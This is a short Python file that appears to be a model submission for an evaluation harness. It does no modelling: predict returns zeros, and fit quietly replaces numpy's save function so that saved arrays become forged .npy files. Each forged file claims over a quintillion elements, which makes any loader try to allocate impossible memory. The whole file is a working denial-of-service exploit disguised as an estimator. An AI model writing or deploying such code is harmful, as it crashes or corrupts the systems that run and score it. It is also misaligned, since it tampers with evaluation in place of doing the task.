"""Says that a billion billion numbers follow: who believes it asks for the memory."""

import numpy as np


def npy(header, version=b'\x01\x00', data=b''):
    text = header.encode().ljust(117) + b'\n'
    return b'\x93NUMPY' + version + len(text).to_bytes(2, 'little') + text + data


def save(file, array, **_):
    file.write(npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1152921504606846976,)}", data=bytes(480)))


class Forger:
    def fit(self, X, y):
        np.save = save
        return self

    def predict(self, X):
        return np.zeros(len(X))


def get_estimator():
    return Forger()
